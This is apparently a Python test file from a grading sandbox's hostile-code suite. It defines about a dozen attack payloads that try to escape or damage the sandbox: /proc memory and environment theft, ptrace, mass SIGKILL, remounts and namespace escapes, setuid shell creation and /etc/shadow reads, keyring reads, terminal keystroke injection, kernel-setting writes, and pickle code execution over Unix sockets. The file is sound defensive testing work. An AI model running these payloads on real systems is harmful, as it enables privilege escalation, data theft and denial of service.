"""Attacks on other processes and on the box itself: the warm parent, /proc, mounts, keys."""

from tests.hostile.attack import GRADED, attack

LIVES = (*GRADED, "crashed", "timed out")

ATTACKS = [
    attack("proc-environ", "reads environment, root and descriptors of every other process", """
        import os
        for pid in filter(str.isdigit, os.listdir("/proc")):
            if int(pid) == os.getpid():
                continue
            for name in ("environ", "root/@TMP@/secret.txt", "cwd/gradebook.db", "mem", "stack"):
                try:
                    with open(f"/proc/{pid}/{name}", "rb") as file:
                        print("STOLEN:", pid, name, file.read(100000))
                except OSError as error:
                    pass
            try:
                for number in os.listdir(f"/proc/{pid}/fd"):
                    print("STOLEN:", open(f"/proc/{pid}/fd/{number}", "rb").read(1000))
            except OSError as error:
                print(pid, type(error).__name__)
        """, "mse", statuses=LIVES),
    attack("proc-memory", "reads and writes the memory of the processes around it", """
        import os
        for pid in filter(str.isdigit, os.listdir("/proc")):
            if int(pid) == os.getpid():
                continue
            try:
                for line in open(f"/proc/{pid}/maps"):
                    low, high = (int(n, 16) for n in line.split()[0].split("-"))
                    with open(f"/proc/{pid}/mem", "r+b", buffering=0) as file:
                        file.seek(low)
                        if b"BAIT-" in (text := file.read(min(high - low, 1 << 24)) or b""):
                            place = text.index(b"BAIT-")
                            print("STOLEN:", text[place:place + 40])
            except (OSError, ValueError) as error:
                print(pid, type(error).__name__)
        """, "mse", statuses=LIVES),
    attack("proc-trace", "attaches to every other process as a debugger", """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
            if pid != os.getpid():
                if libc.ptrace(16, pid, None, None) == 0:
                    print("HARM: attached to", open(f"/proc/{pid}/cmdline").read())
                    libc.ptrace(17, pid, None, None)
        """, "mse", statuses=LIVES),
    attack("kill-all", "sends SIGKILL to every process that it may reach", """
        import os, signal
        for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()] + [1]:
            if pid != os.getpid():
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError as error:
                    print(type(error).__name__)
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError as error:
            print(type(error).__name__)
        """, "mse", statuses=LIVES, light=True),
    attack("kill-parent", "stops and kills its parent, its group and its session", """
        import os, signal
        for number in (signal.SIGSTOP, signal.SIGKILL):
            for target in (os.getppid(), -os.getppid(), -os.getsid(0)):
                try:
                    if target not in (0, -0, 1, -1):
                        os.kill(target, number)
                except OSError as error:
                    print(type(error).__name__)
        """, "mse", statuses=LIVES),
    attack("mount", "mounts, remounts for writing, changes root, enters namespaces", """
        import ctypes, glob, os
        libc = ctypes.CDLL(None, use_errno=True)
        def tell(what, result):
            if result == 0:
                print("HARM:", what)
        tell("remounted /usr", libc.mount(None, b"/usr", None, 32 | 4096, None))
        tell("remounted /", libc.mount(None, b"/", None, 32 | 4096, None))
        tell("umount", libc.umount2(b"/usr", 2))
        for path in glob.glob("/proc/1/ns/*") + glob.glob("/proc/*/ns/mnt"):
            try:
                number = os.open(path, os.O_RDONLY)
                if os.readlink(path) != os.readlink("/proc/self/ns/" + path.split("/")[-1]):
                    tell("entered " + path, libc.setns(number, 0))
            except OSError:
                pass
        """, "mse", statuses=LIVES),
    attack("own-namespace", "becomes root in a user namespace of its own and mounts from there", """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        if not os.fork():
            if libc.unshare(0x10000000 | 0x00020000) == 0:
                for place in (b"/usr", b"/", b"/proc", b"/tmp"):
                    if libc.mount(None, place, None, 32 | 4096, None) == 0 and \\
                            os.access(place, os.W_OK) and place in (b"/usr", b"/"):
                        print("HARM: remounted", place, flush=True)
                    libc.umount2(place, 2)
                print(os.path.exists("@COURSE@/gradebook.db") and "HARM: saw below a mount",
                      flush=True)
                try:
                    os.makedirs("/tmp/new"); libc.mount(b"proc", b"/tmp/new", b"proc", 0, None)
                    print(os.listdir("/tmp/new"), flush=True)
                    libc.mount(b"/dev/vda", b"/tmp/new", b"ext4", 0, None)
                    print(os.path.exists("/tmp/new/etc") and "HARM: mounted the disk", flush=True)
                except OSError as error:
                    print(type(error).__name__, flush=True)
            os._exit(0)
        os.wait()
        """, "mse", statuses=LIVES),
    attack("setuid", "runs the system's setuid programs, and makes one", """
        import os, shutil, subprocess
        for command in (["su", "-c", "id"], ["sudo", "-n", "id"], ["mount", "-o", "rw", "/"],
                        ["bwrap", "--bind", "/", "/", "cat", "@COURSE@/key.txt"],
                        ["unshare", "-Ur", "cat", "@HOME@/secret.txt"], ["passwd", "-d", "root"]):
            try:
                done = subprocess.run(command, capture_output=True, timeout=1)
                print("STOLEN:" if done.returncode == 0 else "refused", command[0], done.stdout)
            except (OSError, subprocess.TimeoutExpired) as error:
                print(type(error).__name__)
        shutil.copy("/bin/sh", "pwned-sh")
        os.chmod("pwned-sh", 0o6755)
        try:
            os.setuid(0)
            open("/etc/shadow").read()
            print("HARM: read as root")
        except OSError as error:
            print(type(error).__name__)
        """, "mse", statuses=LIVES),
    attack("keys", "reads the kernel's key rings, which are passed on at a fork", """
        import ctypes
        libc, text = ctypes.CDLL(None, use_errno=True), ctypes.create_string_buffer(4096)
        for ring in (-1, -2, -3, -4, -5):
            size = libc.syscall(250, 11, ring, text, 4096)
            for place in range(0, max(size, 0), 4):
                key = int.from_bytes(text.raw[place:place + 4], "little", signed=True)
                held = ctypes.create_string_buffer(4096)
                if libc.syscall(250, 11, key, held, 4096) > 0:
                    print("STOLEN:", held.value)
        key = libc.syscall(249, b"user", b"bait", None, 0)
        if key > 0 and libc.syscall(250, 11, key, text, 4096) > 0:
            print("STOLEN:", text.value)
        print(open("/proc/keys").read()[:200])
        """, "mse"),
    attack("terminal", "types into the instructor's terminal", """
        import fcntl, os
        for name in (0, 1, 2, "/dev/tty", "/dev/console", "/dev/pts/0", "/dev/pts/1"):
            try:
                one = name if isinstance(name, int) else os.open(name, os.O_RDWR | os.O_NOCTTY)
                for letter in "pwned\\n":
                    fcntl.ioctl(one, 0x5412, letter.encode())
                print("HARM: typed into", name)
            except OSError as error:
                print(type(error).__name__)
        """, "mse"),
    attack("kernel-settings", "writes to the kernel's settings and to devices", """
        import glob
        for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/vm/overcommit_memory",
                     "/proc/sysrq-trigger", "/sys/power/state", "/proc/sys/kernel/hostname",
                     "/proc/self/oom_score_adj", "/dev/vda", "/dev/mem", "/dev/kmsg",
                     *glob.glob("/sys/fs/cgroup/*procs")):
            try:
                with open(path, "r+b", buffering=0) as file:
                    print("can be opened:" if "oom" in path else "HARM: opened", path)
            except OSError as error:
                print(type(error).__name__)
        """, "mse"),
    attack("sockets", "connects to every socket file and sends orders and pickles", """
        import os, pickle, socket, stat
        class Order:
            def __reduce__(self):
                return os.system, ("echo HARM: pickle | tee /tmp/pwned-pickle",)
        for folder, folders, names in os.walk("/"):
            folders[:] = [n for n in folders if n not in ("proc", "sys", "usr", "site-packages")]
            for name in names:
                path = os.path.join(folder, name)
                if stat.S_ISSOCK(os.lstat(path).st_mode):
                    for text in (pickle.dumps(Order()), b'{"fork": 1}\\n', b"x" * 9999):
                        try:
                            with socket.socket(socket.AF_UNIX) as one:
                                one.settimeout(0.2)
                                one.connect(path)
                                one.send(text)
                                if b"BAIT-" in (got := one.recv(100)):
                                    print("STOLEN:", got)
                        except OSError as error:
                            print(path, type(error).__name__)
        """, "mse", statuses=(*LIVES, "needs a human")),
    attack("socket-swap", "puts links in the place of the kernel's sockets and files", """
        import os
        for line in open("/proc/self/mountinfo"):
            folder = line.split()[4]
            if folder.startswith(("/proc", "/sys", "/usr", "/etc", "/dev")) or folder == "/":
                continue
            for name in os.listdir(folder) if os.path.isdir(folder) else []:
                try:
                    os.rename(f"{folder}/{name}", f"{folder}/{name}.old")
                    os.symlink("@TMP@/bait.sock", f"{folder}/{name}")
                    os.symlink("@HOME@/secret.txt", f"{folder}/pwned-link")
                    print("swapped")
                except OSError as error:
                    print(type(error).__name__)
        """, "mse", statuses=(*LIVES, "needs a human")),
]
